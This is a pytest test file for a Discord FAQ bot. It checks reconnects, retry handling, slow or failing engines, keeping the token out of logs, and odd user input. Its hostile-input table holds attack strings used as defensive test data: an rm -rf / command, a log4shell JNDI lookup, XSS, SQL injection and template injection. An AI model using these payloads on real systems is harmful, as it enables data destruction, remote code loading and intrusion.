"""Reliability and security of the Discord bot, end to end against the fake Discord.

What a production bot meets sooner or later: a dropped gateway, Discord answering 5xx or 429,
an engine that is slow or raises, a token that must never reach a log, and users typing anything
at all. Each test asserts on the wire (what Discord would see) and then checks that the bot is
still up by asking it the next question.
"""

from __future__ import annotations

import asyncio
import logging
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import discord.http
import discord.webhook.async_
import pytest
from fake_discord import FakeDiscord, FakeMember
from test_discord_support import (
    COO_QUESTION,
    EPHEMERAL,
    MESSAGES,
    SlowEngine,
    ask,
    assert_message_ok,
    async_test,
    copy_knowledge,
    faq,
    field,
    mention,
    open_engine,
    outcome,
    replies_to,
    reply_to,
    running,
    store_bot_message,
)

from bot.discord_app.formatting import APOLOGY
from bot.engine import Answer, Engine, Topic

pytestmark = pytest.mark.discord

BOOM = "please explode"


@pytest.fixture(scope="module")
def kb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return copy_knowledge(tmp_path_factory.mktemp("reliability") / "knowledge")


@pytest.fixture(scope="module")
def faq_engine(kb: Path) -> Engine:
    return open_engine(kb)


class ExplodingEngine(SlowEngine):
    """The real engine, except that it raises (a bug, a corrupt index ...) for one question."""

    def __init__(self, engine: Engine) -> None:
        super().__init__(engine, 0.0)

    def ask(self, question: str, topic: Topic | None = None) -> Answer:
        if BOOM in question:
            raise RuntimeError("the engine blew up")
        return super().ask(question, topic)


async def answered_normally(fake: FakeDiscord, engine: Engine, user: FakeMember | None = None) -> None:
    """The bot is up: a mention and an /ask by ``user`` (whose earlier questions must not change
    how this one is read) both get the real answer."""
    user = user or fake.member(fake.user)
    expected = engine.ask(COO_QUESTION).text
    _, reply = await mention(fake, COO_QUESTION, author=user)
    assert reply.json["embeds"][0]["description"] == expected
    _, callback = await ask(fake, COO_QUESTION, user=user)
    assert callback.json["data"]["embeds"][0]["description"] == expected


# -- the gateway --------------------------------------------------------------------------------------
@pytest.mark.parametrize(("how", "reconnect_op"), [
    ({"code": 4000}, 6),  # Discord closes the socket: RESUME
    ({"abrupt": True}, 6),  # the TCP connection dies without a close frame: RESUME
    ({"code": 4000, "invalidate_session": True}, 2),  # the session is gone too: a new IDENTIFY
])
@async_test
async def test_a_dropped_gateway_is_reconnected_and_the_bot_answers(faq_engine: Engine, how: dict[str, Any],
                                                                    reconnect_op: int) -> None:
    async with running(faq_engine) as (fake, _bot):
        before = len(fake.gateway_log.entries)
        assert await fake.disconnect(**how) == 1
        await fake.wait_for_gateway(lambda f: f.direction == "received" and f.op == reconnect_op,
                                    start=before, timeout=10)
        event = "RESUMED" if reconnect_op == 6 else "READY"
        await fake.wait_for_gateway(lambda f: f.t == event, start=before, timeout=10)
        assert fake.connected_shards == [0]
        await answered_normally(fake, faq_engine)


@async_test
async def test_questions_asked_while_disconnected_are_answered_after_the_resume(faq_engine: Engine) -> None:
    """Discord replays what the bot missed on RESUME; the bot answers it (once)."""
    async with running(faq_engine) as (fake, bot):
        await fake.disconnect(4000)
        missed = await fake.inject_message(f"{fake.bot_user.mention} {COO_QUESTION}")
        assert await outcome(bot, missed, timeout=10) == "answered"
        reply = await reply_to(fake, missed)
        assert reply.json["embeds"][0]["description"] == faq_engine.ask(COO_QUESTION).text
        assert len(replies_to(fake, missed)) == 1


# -- REST failures --------------------------------------------------------------------------------------
@async_test
async def test_http_500_and_502_are_retried_and_the_answer_arrives_once(faq_engine: Engine) -> None:
    async with running(faq_engine) as (fake, _bot):
        fake.fail_next("POST", MESSAGES, status=500)
        fake.fail_next("POST", "/interactions/*/callback", status=502)
        (question, reply), (interaction, callback) = await asyncio.gather(
            mention(fake, COO_QUESTION), ask(fake, COO_QUESTION))

        sends = fake.find_requests("POST", MESSAGES)
        assert [r.status for r in sends] == [500, 200]
        assert all(r.json["message_reference"]["message_id"] == int(question["id"]) for r in sends)
        assert [r.status for r in fake.find_requests("POST", interaction.callback_path)] == [502, 200]
        assert reply.json["embeds"][0]["description"] == callback.json["data"]["embeds"][0]["description"]
        assert len([m for m in fake.messages.values() if m["author"]["id"] == str(fake.bot_user.id)]) == 2


class QuickRetries:
    """``asyncio`` as discord.py's HTTP clients see it (``discord.http`` for messages,
    ``discord.webhook.async_`` for interaction responses), with the 1/3/5/7 s back-off between 5xx
    retries cut to 10 ms, so that running out of retries takes milliseconds instead of 16 seconds."""

    def __getattr__(self, name: str) -> Any:
        return getattr(asyncio, name)

    @staticmethod
    async def sleep(delay: float, result: Any = None) -> Any:
        return await asyncio.sleep(min(delay, 0.01), result)


@pytest.fixture
def quick_retries(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setattr(discord.http, "asyncio", QuickRetries())
    monkeypatch.setattr(discord.webhook.async_, "asyncio", QuickRetries())
    yield


@async_test
async def test_discord_failing_for_good_is_logged_and_the_bot_stays_up(
        faq_engine: Engine, quick_retries: None, caplog: pytest.LogCaptureFixture) -> None:
    async with running(faq_engine) as (fake, bot):
        fake.fail_next("POST", MESSAGES, status=502, count=5)  # every attempt discord.py makes
        question = await fake.inject_message(f"{fake.bot_user.mention} {COO_QUESTION}")
        assert await outcome(bot, question) == "failed"
        assert [r.status for r in fake.find_requests("POST", MESSAGES)] == [502] * 5
        (record,) = [r for r in caplog.records if r.name == "bot.discord_app.cog" and r.levelno == logging.ERROR]
        assert record.exc_info and isinstance(record.exc_info[1], discord.DiscordServerError)

        fake.fail_next("POST", "/interactions/*/callback", status=500, count=5)
        interaction = await fake.inject_slash_command("ask", options={"question": COO_QUESTION})
        apology = await fake.wait_for_response(interaction)  # the sixth attempt: the apology gets through
        assert apology.json["data"]["content"] == APOLOGY and apology.json["data"]["flags"] == EPHEMERAL
        assert any(r.name == "bot.discord_app.client" and r.levelno == logging.ERROR for r in caplog.records)

        await answered_normally(fake, faq_engine)


@async_test
async def test_429_waits_retry_after_then_sends_exactly_once(faq_engine: Engine) -> None:
    async with running(faq_engine) as (fake, _bot):
        fake.fail_next("POST", MESSAGES, status=429, retry_after=0.4)
        fake.fail_next("POST", "/interactions/*/callback", status=429, retry_after=0.3)
        (question, _), (interaction, _) = await asyncio.gather(mention(fake, COO_QUESTION), ask(fake, COO_QUESTION))

        first, second = fake.find_requests("POST", MESSAGES)
        assert (first.status, second.status) == (429, 200)
        assert first.answered_at is not None and second.received_at - first.answered_at >= 0.35, "waited"
        assert second.json["message_reference"]["message_id"] == int(question["id"])
        first, second = fake.find_requests("POST", interaction.callback_path)
        assert (first.status, second.status) == (429, 200)
        assert first.answered_at is not None and second.received_at - first.answered_at >= 0.25
        sent = [m for m in fake.messages.values() if m["author"]["id"] == str(fake.bot_user.id)]
        assert len(sent) == 2, "one reply to the mention, one response to /ask: nothing doubled"


# -- a slow or failing engine ------------------------------------------------------------------------
@async_test
async def test_a_two_second_answer_is_deferred_within_three_seconds(faq_engine: Engine) -> None:
    async with running(SlowEngine(faq_engine, 2.0)) as (fake, _bot):
        fake.interaction_timeout = 3.0  # like Discord: a later first response is "Unknown interaction"
        started = time.monotonic()
        interaction = await fake.inject_slash_command("ask", options={"question": COO_QUESTION})
        button = store_bot_message(fake, embeds=[{"title": "x", "fields": [{"name": "Question",
                                                                             "value": COO_QUESTION}]}],
                                   button_ids=["faqbot:answer:more"])
        click = await fake.inject_component_click("faqbot:answer:more", message=button)

        for handle in (interaction, click):
            deferred = await fake.wait_for_response(handle, timeout=3)
            assert deferred.json["type"] == 5 and deferred.received_at - started < 3.0
            assert deferred.json["data"]["flags"] == EPHEMERAL
        followup = await fake.wait_for_followup(interaction, timeout=5)
        assert followup.json["embeds"][0]["description"] == faq_engine.ask(COO_QUESTION).text
        more = await fake.wait_for_followup(click, timeout=5)
        assert more.json["embeds"][0]["title"] == "Other answers"
        assert not fake.find_requests(ok=False), "no interaction expired"


@async_test
async def test_an_exception_while_answering_is_logged_apologised_for_and_survived(
        faq_engine: Engine, caplog: pytest.LogCaptureFixture) -> None:
    async with running(ExplodingEngine(faq_engine)) as (fake, bot):
        _, callback = await ask(fake, BOOM)
        data = callback.json["data"]
        assert data["content"] == APOLOGY and data["flags"] == EPHEMERAL

        question, reply = await mention(fake, BOOM)
        assert reply.json["content"] == APOLOGY and not reply.json.get("embeds")
        assert_message_ok(reply.json)
        assert await outcome(bot, question) == "failed"

        broken = store_bot_message(fake, embeds=[{"title": "x", "fields": [{"name": "Question", "value": BOOM}]}],
                                   button_ids=["faqbot:answer:more"])
        click = await fake.inject_component_click("faqbot:answer:more", message=broken)
        assert (await fake.wait_for_response(click)).json["data"]["content"] == APOLOGY

        errors = [r for r in caplog.records if r.levelno >= logging.ERROR]
        assert len(errors) == 3 and all(r.exc_info and "blew up" in str(r.exc_info[1]) for r in errors)
        assert "Traceback" not in str([r.json for r in fake.find_requests("POST")])
        await answered_normally(fake, faq_engine)


# -- the token --------------------------------------------------------------------------------------------
REAL_LOOKING_TOKEN = "MTE5ODc2NTQzMjEwOTg3NjU0Mw.GaBcDe.q1w2e3r4t5y6u7i8o9p0AsDfGhJkLzXcVbNm"


class Collect(logging.Handler):
    """Every record, fully formatted (message, traceback, stack), as a log file would hold it."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.setFormatter(logging.Formatter("%(asctime)s %(levelname)s %(name)s %(message)s"))
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


@pytest.fixture
def debug_log() -> Iterator[Collect]:
    """All logging at DEBUG, discord.py's included, with no filter that could hide a leak."""
    handler = Collect()
    root, lib = logging.getLogger(), logging.getLogger("discord")
    levels = (root.level, lib.level, logging.getLogger("discord.http").level)
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    lib.setLevel(logging.DEBUG)
    logging.getLogger("discord.http").setLevel(logging.DEBUG)
    yield handler
    root.removeHandler(handler)
    root.setLevel(levels[0])
    lib.setLevel(levels[1])
    logging.getLogger("discord.http").setLevel(levels[2])


@async_test
async def test_the_token_never_appears_in_any_log_line(kb: Path, debug_log: Collect) -> None:
    engine = ExplodingEngine(open_engine(kb))
    async with FakeDiscord(REAL_LOOKING_TOKEN) as fake:
        async with running(engine, fake=fake) as (_, bot):
            await mention(fake, COO_QUESTION)
            await ask(fake, COO_QUESTION)
            fake.fail_next("POST", MESSAGES, status=429, retry_after=0.05)
            await mention(fake, "who does the coo report to")
            await mention(fake, BOOM)  # a traceback in the log
            await fake.disconnect(4000)
            await fake.wait_for_gateway(lambda f: f.t == "RESUMED", timeout=10)
            interaction, _ = await faq(fake, "reload", fake.admin)
            await fake.wait_for_followup(interaction, timeout=15)
        assert bot.is_closed()

    text = "\n".join(debug_log.lines)
    assert "IDENTIFY" in text and "Reloaded the index" in text and "blew up" in text, "the whole session"
    assert any(" DEBUG discord.http " in line for line in debug_log.lines), "discord.py's HTTP debug lines"
    for secret in (REAL_LOOKING_TOKEN, REAL_LOOKING_TOKEN.split(".")[-1]):
        assert secret not in text


# -- whatever users type ------------------------------------------------------------------------------
HOSTILE: dict[str, str] = {
    "empty": "",
    "whitespace": " \t \n  ",
    "100k characters": "why " * 25_000,
    "emoji only": "🤔🔥💼👩‍💼🏳️‍🌈",
    "zero-width": "what\u200b does\u200c a\u200d CO\ufeffO do?\u2060",
    "control characters": "what\x00 does\x07 a\x1b[31m COO\x08 do?\x7f\r",
    "right-to-left override": "\u202e?od OOC a seod tahw\u202c",
    "non-English": "Что делает операционный директор? 首席运营官做什么？ ¿Qué hace un COO? ماذا يفعل",
    "mass mentions": "@everyone @here what does a COO do?",
    "markdown": "**bold** __under__ ~~strike~~ `code` # heading\n> quote\n- [link](https://x.y) *COO*?",
    "code fence": "```python\nimport os; os.system('rm -rf /')\n``` what does a coo do",
    "spoiler": "||what does a COO do?||",
    "template injection": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "log4shell": "${jndi:ldap://x.example/a}",
    "html": "<script>alert('coo')</script><img src=x onerror=alert(1)>",
    "sql": "'; DROP TABLE users; -- what does a coo do",
    "format strings": "%s%s%s%n {0} {__class__} %(token)s",
}


def hostile_inputs(fake: FakeDiscord) -> dict[str, str]:
    """The inputs above, plus role and user mentions with this fake's real-looking ids."""
    return HOSTILE | {"role and user mentions": f"{fake.admin_role.mention} <@{fake.admin.id}> "
                                                f"<@!{fake.user.id}> what does a coo do?"}


def check_reply(name: str, question: str, body: dict[str, Any]) -> None:
    """A sensible reply or a clear refusal, within Discord's limits, echoing no live mention."""
    assert_message_ok(body)
    text = body.get("content") or "\n".join(e.get("description", "") for e in body.get("embeds") or [])
    if not question.strip():
        assert "Please type a question" in text, name
    elif len(question) > 2000:
        assert "too long" in text and "2,000 characters" in text, name
    else:
        assert text.strip(), name


@async_test
async def test_hostile_and_odd_input_gets_a_sensible_reply_that_pings_nobody(faq_engine: Engine) -> None:
    async with running(faq_engine) as (fake, bot):
        inputs = hostile_inputs(fake)
        pending = [(name, question, await fake.inject_message(f"{fake.bot_user.mention} {question}",
                                                              mention_roles=[fake.admin_role]))
                   for name, question in inputs.items()]
        for name, question, message in pending:
            assert await outcome(bot, message) == "answered", name
            check_reply(name, question, (await reply_to(fake, message)).json)

        for name, question in inputs.items():
            if not question:
                continue  # Discord itself refuses an empty required option
            _, callback = await ask(fake, question, public=True)
            check_reply(name, question, callback.json["data"])
            if "@&" in question:
                echoed = field(callback.json["data"]["embeds"][0], "Question")
                assert f"<@\u200b&{fake.admin_role.id}>" in echoed, "the role mention is defused"
        await answered_normally(fake, faq_engine, fake.member(fake.admin))
